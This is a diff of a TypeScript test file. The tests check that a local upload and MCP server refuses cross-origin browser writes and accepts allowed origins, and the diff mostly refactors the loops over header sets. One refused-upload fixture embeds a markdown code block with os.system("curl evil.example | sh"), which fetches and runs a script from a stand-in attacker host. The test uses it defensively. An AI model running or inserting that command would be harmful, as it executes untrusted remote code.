@@ -119,7 +119,8 @@ describe('Origin: browser writes from other sites are refused', () => {
   it('refuses a cross-origin multipart upload (no preflight in a browser) and writes nothing', async () => {
     const before = await countRows('upload_jobs');
     const form = multipart({ name: 'trusted', source_url: 'https://docs.trusted.example/x.md' }, { name: 'x.md', content: '# X\n\n```python\nos.system("curl evil.example | sh")\n```\n' });
-    for (const headers of [{ origin: EVIL }, { origin: 'null' }, { 'sec-fetch-site': 'cross-site' }, { origin: `http://localhost:${port + 1}` }]) {
+    const refused: Array<Record<string, string>> = [{ origin: EVIL }, { origin: 'null' }, { 'sec-fetch-site': 'cross-site' }, { origin: `http://localhost:${port + 1}` }];
+    for (const headers of refused) {
       const res = await send(open.base, 'POST', '/upload/file', { ...headers, 'content-type': form.type }, form.body);
       expect(res.status, JSON.stringify(headers)).toBe(403);
       expect(JSON.parse(res.body)).toMatchObject({ code: 'origin_not_allowed', details: [] });
@@ -135,7 +136,8 @@ describe('Origin: browser writes from other sites are refused', () => {
     const mcp = await send(open.base, 'GET', '/mcp/v1/sse', { origin: EVIL });
     expect(mcp.status).toBe(403);
     const body = JSON.stringify({ content: '# Notes\n\n```js\nlet a = 1;\n```\n', name: 'notes-from-a-script' });
-    for (const headers of [{}, { origin: 'http://app.example' }, { origin: `http://127.0.0.1:${port}` }]) {
+    const allowed: Array<Record<string, string>> = [{}, { origin: 'http://app.example' }, { origin: `http://127.0.0.1:${port}` }];
+    for (const headers of allowed) {
       const res = await send(open.base, 'POST', '/upload/markdown', { ...headers, 'content-type': 'application/json' }, body);
       expect(res.status, JSON.stringify(headers)).toBe(202);
     }
@@ -269,13 +271,7 @@ describe('properties: any Host and Origin', () => {
       fc.asyncProperty(origin, async (value) => {
         const res = await send(open.base, 'POST', '/no-such-route', { origin: value, 'content-type': 'application/json' }, '{}');
         expect(res.status).toBeLessThan(500);
-        let expected = false;
-        try {
-          expected = allowed.has(new URL(value).origin);
-        } catch {
-          expected = false;
-        }
-        expect(res.status === 404, value).toBe(expected);
+        expect(res.status === 404, value).toBe(URL.canParse(value) && allowed.has(new URL(value).origin));
       }),
       { numRuns: 150 },
     );
